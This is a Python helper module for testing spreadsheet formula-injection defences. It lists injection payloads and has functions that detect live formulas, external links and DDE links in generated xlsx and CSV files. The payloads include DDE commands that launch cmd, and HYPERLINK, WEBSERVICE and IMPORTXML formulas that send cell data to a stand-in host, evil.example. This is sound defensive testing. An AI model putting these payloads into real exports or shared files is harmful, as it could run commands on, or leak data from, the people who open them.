"""Text that a spreadsheet would run, and a judge of what it would run of a file."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from html import unescape

import openpyxl

CALLS = (
    "1+1",
    "1+1+cmd|'/c calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"open")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML("http://evil.example","//a")',
    "SUM(A1:A9)*2",
    'DDE("cmd";"/c calc";"x")',
)
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
PAYLOADS = (
    *(start + call for start in STARTS for call in CALLS),
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    '","=1+1',
    '";=1+1',
    "<r><f>1+1</f></r>",
    "<r>=1+1</r>",
    "{=1+1}",
    "http://evil.example/=1+1",
)


def live_in_workbook(content: bytes) -> Iterator[str]:
    """Every formula, by sheet and cell, and every link to the outside, as the file has them."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            text = package.read(name).decode()
            for cell, formula in re.findall(r'<c r="(\w+)"[^>]*><f[^>]*>([^<]*)', text):
                yield f"{name} {cell} {unescape(formula)}"
            yield from re.findall(r'TargetMode="External"|<hyperlink |<ddeLink ', text)


def formulas_in(content: bytes) -> dict[str, set[str]]:
    """The formulas of each sheet that has some, as a reader of such files understands them."""
    found: dict[str, set[str]] = {}
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        cells = (cell for row in sheet.iter_rows() for cell in row)
        formulas = {str(cell.value) for cell in cells if cell.data_type == "f"}
        found |= {sheet.title: formulas} if formulas else {}
    return found


def live_in_csv(content: bytes) -> Iterator[str]:
    """Every cell that begins as a formula does."""
    for row in read_csv(content):
        yield from (cell for cell in row if cell[:1] in (*STARTS, "\t", "\r", "\n") and cell)


def read_csv(content: bytes) -> list[list[str]]:
    """The cells as they stand in the file, guards and all."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def plain(cell: str) -> str:
    """A cell as it was before it was guarded."""
    return cell.removeprefix("'")
